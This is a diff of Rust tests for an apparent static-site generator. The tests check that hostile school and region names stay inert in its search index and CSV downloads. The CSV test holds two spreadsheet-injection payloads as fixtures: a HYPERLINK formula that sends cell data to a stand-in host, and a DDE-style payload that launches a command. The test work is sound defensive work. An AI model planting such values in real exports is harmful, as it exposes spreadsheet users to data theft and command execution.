@@ -989,3 +989,90 @@ fn file_names_that_are_not_slugs_are_refused() {
         );
     }
 }
+
+/// Builds the mini site with `HOSTILE` as a school's and a region's name; returns the site
+/// (its output in `out/`).
+fn hostile_names_site() -> tempfile::TempDir {
+    let sekolah = rename_row(&fixture_text(SEKOLAH), "14710001", HOSTILE);
+    let wilayah = rename_row(&fixture_text(WILAYAH), "14.71", HOSTILE);
+    let site = site_with(&[(SEKOLAH, sekolah.as_bytes()), (WILAYAH, wilayah.as_bytes())]);
+    let built = build_limited(site.path());
+    assert_eq!(built.status.code(), Some(0), "{}", show(&built));
+    site
+}
+
+/// Every string inside a JSON value.
+fn strings_of(value: &serde_json::Value, out: &mut Vec<String>) {
+    match value {
+        serde_json::Value::String(s) => out.push(s.clone()),
+        serde_json::Value::Array(items) => items.iter().for_each(|v| strings_of(v, out)),
+        serde_json::Value::Object(map) => map.values().for_each(|v| strings_of(v, out)),
+        _ => {}
+    }
+}
+
+/// The search index (`assets/cari/*.js`, loaded with `<script src>`) holds names as JSON
+/// string data: each file is exactly one `push(<JSON>)` call, so a name with `"`, `</script>`
+/// or markup can neither end the call nor become code, and it comes back unchanged.
+#[test]
+#[ignore = "search index (src/render/search.rs) not committed yet: un-ignore when assets/cari lands"]
+fn search_index_carries_hostile_names_as_json_data() {
+    let site = hostile_names_site();
+    let index = site.path().join("out/assets/cari");
+    let mut names = Vec::new();
+    let mut files = 0;
+    for entry in std::fs::read_dir(&index).expect("no search index in the output") {
+        let path = entry.unwrap().path();
+        let text = std::fs::read_to_string(&path).unwrap();
+        let json = text
+            .trim_end()
+            .strip_prefix("(self.raporIndeks=self.raporIndeks||[]).push(")
+            .and_then(|t| t.strip_suffix(");"))
+            .unwrap_or_else(|| panic!("{path:?} is not one push() call"));
+        let value: serde_json::Value =
+            serde_json::from_str(json).unwrap_or_else(|e| panic!("{path:?}: not JSON data: {e}"));
+        strings_of(&value, &mut names);
+        files += 1;
+    }
+    assert!(files > 0, "empty search index");
+    assert!(
+        names.iter().any(|n| n == HOSTILE),
+        "the hostile name did not come back unchanged"
+    );
+}
+
+/// Spreadsheet programs run a cell that starts with `=`, `+`, `-`, `@`, tab or CR as a
+/// formula (`=HYPERLINK(...)` phones home): CSV downloads must neutralise such cells.
+#[test]
+#[ignore = "CSV downloads not built yet: un-ignore when the output has .csv files"]
+fn csv_downloads_neutralise_formula_cells() {
+    let name = "=HYPERLINK(\"https://contoh.invalid/?d=\"&A1,\"klik\")";
+    let sekolah = rename_row(&fixture_text(SEKOLAH), "14710001", name);
+    let wilayah = rename_row(&fixture_text(WILAYAH), "14.71", "+cmd|' /C calc'!A0");
+    let site = site_with(&[(SEKOLAH, sekolah.as_bytes()), (WILAYAH, wilayah.as_bytes())]);
+    let built = build_limited(site.path());
+    assert_eq!(built.status.code(), Some(0), "{}", show(&built));
+    let downloads: Vec<(String, Vec<u8>)> = snapshot(&site.path().join("out"))
+        .into_iter()
+        .filter(|(rel, _)| rel.ends_with(".csv"))
+        .collect();
+    assert!(!downloads.is_empty(), "no CSV downloads in the output");
+    let mut seen = false;
+    for (rel, bytes) in downloads {
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(&bytes[..]);
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                seen |= cell.contains("HYPERLINK") || cell.contains("calc");
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                        || cell.parse::<f64>().is_ok(),
+                    "{rel}: formula cell {cell:?}"
+                );
+            }
+        }
+    }
+    assert!(seen, "the hostile names are in no download");
+}
